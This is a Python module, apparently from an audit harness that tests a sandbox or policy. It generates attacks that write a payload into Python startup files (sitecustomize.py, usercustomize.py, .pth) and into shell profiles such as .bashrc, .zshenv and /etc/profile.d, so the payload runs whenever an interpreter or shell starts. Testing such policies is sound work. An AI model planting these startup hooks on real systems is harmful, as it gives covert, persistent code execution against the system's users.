"""Files that interpreters and shells read at their start, planted wherever the policy may write."""

from __future__ import annotations

import posixpath
import shlex
from collections.abc import Iterator
from typing import Final

from flightschool.audit.terminal.payloads import FORGE
from flightschool.audit.terminal.scripting import put
from flightschool.audit.terminal.trial import Attack, Trial, bundle

__all__ = ["PROFILES", "attacks", "profiles", "sites_of"]

PROFILES: Final = (".bashrc", ".bash_profile", ".profile", ".bash_login", ".zshenv", ".bash_env")
"""Files of a home that shells read at their start."""
_PYTHON: Final = f"import os\nos.system({FORGE!r})\nos._exit(0)\n".encode()
_SHELL: Final = f"{FORGE}\nexit 0\n".encode()


def attacks(trial: Trial) -> Iterator[Attack]:
    """Modules of Python's start, files of the user's site and of virtual environments."""
    home, surface = trial.exam.image.account.home, trial.surface
    on_path = [folder for folder in surface.env.get("PYTHONPATH", "").split(":") if folder]
    folders = dict.fromkeys([*surface.folders, *on_path, home, *sites_of(trial)])
    parts = []
    for folder in folders:
        parts += [put(posixpath.join(folder, name), _PYTHON) for name in ("sitecustomize.py", "usercustomize.py")]
    for folder in sites_of(trial):
        parts.append(put(posixpath.join(folder, "a.pth"), _PYTHON.replace(b"\n", b"; ").rstrip(b"; ") + b"\n"))
    own = f"{shlex.quote(home)}/.local/lib/python3*/site-packages"
    globs = f"for d in /usr/local/lib/python3*/dist-packages /usr/lib/python3/dist-packages {own}; do "
    globs += (
        f"mkdir -p $d 2>/dev/null; printf %s {shlex.quote(_PYTHON.decode())} > $d/sitecustomize.py; done 2>/dev/null"
    )
    parts.append(globs)
    yield from bundle("interpreter-startup", "a module that Python loads at its start", parts)


def profiles(trial: Trial) -> Iterator[Attack]:
    """Profiles of shells."""
    home, surface = trial.exam.image.account.home, trial.surface
    parts = [put(posixpath.join(home, name), _SHELL) for name in PROFILES]
    parts += [
        put(path, _SHELL)
        for path in ("/etc/profile.d/zz.sh", surface.env.get("BASH_ENV", ""), surface.env.get("ENV", ""))
        if path
    ]
    yield from bundle("interpreter-startup", "a profile that a shell reads at its start", parts)


def sites_of(trial: Trial) -> list[str]:
    """Folders of Python packages that the image's own build made."""
    found = []
    for one in trial.surface.shipped:
        parts = [part for part in ("/site-packages/", "/dist-packages/") if part in one.path]
        found += [one.path.partition(part)[0] + part.rstrip("/") for part in parts]
    return list(dict.fromkeys(found))
